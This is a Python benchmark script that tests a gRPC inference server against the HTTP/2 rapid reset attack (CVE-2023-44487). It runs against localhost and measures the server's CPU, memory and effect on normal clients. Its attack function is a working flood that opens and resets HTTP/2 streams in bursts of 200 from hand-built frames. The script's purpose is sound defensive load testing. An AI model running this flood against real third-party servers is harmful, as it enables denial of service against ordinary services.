#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against the gRPC door: what it costs, and what it does to 60 normal clients.

    python3 bench/rapid_reset.py IMAGES... --model DIR [--siglip PROGRAM] [--connections 1 4]
    python3 bench/rapid_reset.py --empty build/ci/src/server/empty_doors      whether it is the library's: bare grpc++ and ours

Each attacking connection opens a call and resets it, in one write with hundreds of others, as fast as the server reads.
Rounds without, with, and with attackers that send whole requests before they reset. Measures; it judges nothing but that
no normal request fails and that the server lives. Frames are made by hand (http2_frames.py); standard library only.
"""

import argparse
import json
import multiprocessing
import select
import socket
import statistics
import subprocess
import sys
import time

import http2_frames as h2
from serve import start_doors
from server_process import Process, Server, default_siglip

BURST = 200  # streams in one write
STALL_S = 20  # normal clients that wait longer than that have failed


def attack(port, message, stop, counts):
    """Opens and resets until told to stop; a connection that the server ends, or that has used its 2^30 streams, is
    replaced. Counts (streams, connections)."""
    data = h2.grpc_message(message) if message else None
    head = h2.grpc_head()
    streams = connections = 0
    while not stop.is_set():
        connection = socket.create_connection(("127.0.0.1", port))
        connection.settimeout(5)
        connections += 1
        received, stream = b"", 1
        try:
            connection.sendall(h2.open_connection())
            while not stop.is_set() and stream < 1 << 30:
                frames = []
                for _ in range(BURST):
                    frames.append(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head))
                    if data:
                        frames.append(h2.frame(h2.DATA, h2.END_STREAM, stream, data))
                    frames.append(h2.frame(h2.RST_STREAM, 0, stream, h2.CANCEL.to_bytes(4, "big")))
                    stream += 2
                connection.sendall(b"".join(frames))
                streams += BURST
                while select.select([connection], [], [], 0)[0]:
                    more = connection.recv(1 << 16)
                    if not more:
                        raise OSError("closed")
                    answer, received, _ = h2.acknowledge(received + more)
                    connection.sendall(answer)
        except OSError:
            pass
        connection.close()
    counts.put((streams, connections))


def infer_request(image):
    """ModelInferRequest by hand: model_name 1, inputs 5 (name 1, datatype 2, shape 3), raw_input_contents 7."""
    def field(number, payload):
        size, length = len(payload), b""
        while size > 127:
            length, size = length + bytes([size & 127 | 128]), size >> 7
        return bytes([number << 3 | 2]) + length + bytes([size]) + payload

    tensor = field(1, b"INPUT_IMAGE") + field(2, b"BYTES") + field(3, b"\x01\x01")
    return field(1, b"embed_image") + field(5, tensor) + field(7, len(image).to_bytes(4, "little") + image)


def measure(args, server, attackers, message):
    stop, counts = multiprocessing.Event(), multiprocessing.Queue()
    processes = [multiprocessing.Process(target=attack, args=(args.port or server.grpc, message, stop, counts), daemon=True)
                 for _ in range(attackers)]
    for process in processes:
        process.start()
    time.sleep(0.5 if attackers else 0)
    begin, cpu = time.monotonic(), server.cpu_seconds()
    port = args.port or server.grpc
    try:
        output = subprocess.run([args.siglip, "bench", "server", "--json", "--protocol", "grpc", "--url", f"127.0.0.1:{port}",
                                 "--concurrency", str(args.clients), "--seconds", str(args.seconds), *args.images],
                                capture_output=True, text=True, check=False, timeout=args.seconds + STALL_S).stdout
    except subprocess.TimeoutExpired:
        output = None
    wall, cpu = time.monotonic() - begin, server.cpu_seconds() - cpu
    stop.set()
    totals = [counts.get(timeout=60) for _ in processes]
    for process in processes:
        process.join()
    result = json.loads(output) if output else {"failures": args.clients, "images_per_s": 0, "p99_ms": float("inf")}
    return {"images_per_s": result["images_per_s"], "p99_ms": result["p99_ms"], "failures": result["failures"],
            "resets_per_s": sum(streams for streams, _ in totals) / wall, "cores": cpu / wall,
            "connections": sum(connections for _, connections in totals), "rss_mb": server.rss_bytes() / 1e6}


def attack_alone(port, seconds, message):
    """Streams that one attacker reset, nothing else running."""
    stop, counts = multiprocessing.Event(), multiprocessing.Queue()
    process = multiprocessing.Process(target=attack, args=(port, message, stop, counts), daemon=True)
    process.start()
    time.sleep(seconds)
    stop.set()
    streams, _ = counts.get(timeout=60)
    process.join()
    return streams


def idle_cost(server, seconds, message):
    """CPU-microseconds of the server for one reset, nothing else running."""
    cpu = server.cpu_seconds()
    streams = attack_alone(server.grpc, seconds, message)
    time.sleep(1)
    return (server.cpu_seconds() - cpu) / max(streams, 1) * 1e6, streams / seconds


def print_backlog(name, process, port, rounds):
    """Of resets of heads for 5 s a round: the memory then, and how long they are worked off."""
    for _ in range(rounds):
        cpu = process.cpu_seconds()
        streams = attack_alone(port, 5, None)
        rss, end, last = process.rss_bytes(), time.monotonic(), -1.0
        while process.cpu_seconds() - last > 0.02:
            last = process.cpu_seconds()
            time.sleep(0.5)
        print(f"{name}: {streams} resets in 5 s, {rss / 1e6:.0f} MB; worked off {time.monotonic() - end:.0f} s later, "
              f"{process.rss_bytes() / 1e6:.0f} MB; {(process.cpu_seconds() - cpu) / max(streams, 1) * 1e6:.0f} CPU-us each", flush=True)


def compare_with_empty(args):
    doors, _, port = start_doors([args.empty, "768"])
    try:
        print_backlog("bare grpc++", Process(doors.pid), int(port), args.rounds)
    finally:
        doors.kill()
        doors.wait()
    with Server(args.siglip, args.model) as server:
        print_backlog("siglip serve", server, server.grpc, args.rounds)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("images", nargs="*")
    parser.add_argument("--empty", help="empty_doors: its memory and ours after resets of heads alone, and nothing else")
    parser.add_argument("--siglip", default=str(default_siglip()))
    parser.add_argument("--model", default="models/demo")
    parser.add_argument("--connections", type=int, nargs="+", default=[1, 4], help="attackers, in turns")
    parser.add_argument("--clients", type=int, default=60)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--port", type=int, help="of a balancer before the server, whose gRPC port --options then names")
    parser.add_argument("--options", nargs=argparse.REMAINDER, default=[], help="of siglip serve; last")
    args = parser.parse_args()
    if args.empty:
        return compare_with_empty(args)
    if not args.images:
        parser.error("expected IMAGES")

    with open(args.images[0], "rb") as file:
        request = infer_request(file.read())
    failures = 0
    with Server(args.siglip, args.model, args.options) as server:
        rss = server.rss_bytes() / 1e6
        for name, message in (("heads", None), ("whole requests", request)):
            cost, rate = idle_cost(server, args.seconds, message)
            print(f"alone, {name}: {rate:.0f} resets/s, {cost:.1f} CPU-us each", flush=True)
        cases = [(0, None)] + [(count, message) for count in args.connections for message in (None, request)]
        rounds = {i: [] for i in range(len(cases))}
        for _ in range(args.rounds):
            for i, case in enumerate(cases):
                rounds[i].append(measure(args, server, *case))
                print(case[0], "attackers", "whole requests" if case[1] else "heads", rounds[i][-1], flush=True)
        for i, (count, message) in enumerate(cases):
            row = {key: statistics.median(run[key] for run in rounds[i]) for key in rounds[i][0]}
            failures += sum(run["failures"] for run in rounds[i])
            print(f"{count} attackers{', whole requests' if message else ''}: {row['resets_per_s']:.0f} resets/s on "
                  f"{row['connections']:.0f} connections; normal clients {row['images_per_s']:.0f} images/s, p99 "
                  f"{row['p99_ms']:.0f} ms, {sum(run['failures'] for run in rounds[i])} failures; server {row['cores']:.2f} "
                  f"cores, {row['rss_mb']:.0f} MB (start {rss:.0f})", flush=True)
        assert server.process.poll() is None, "the server ended"
    sys.exit(failures != 0)


if __name__ == "__main__":
    main()
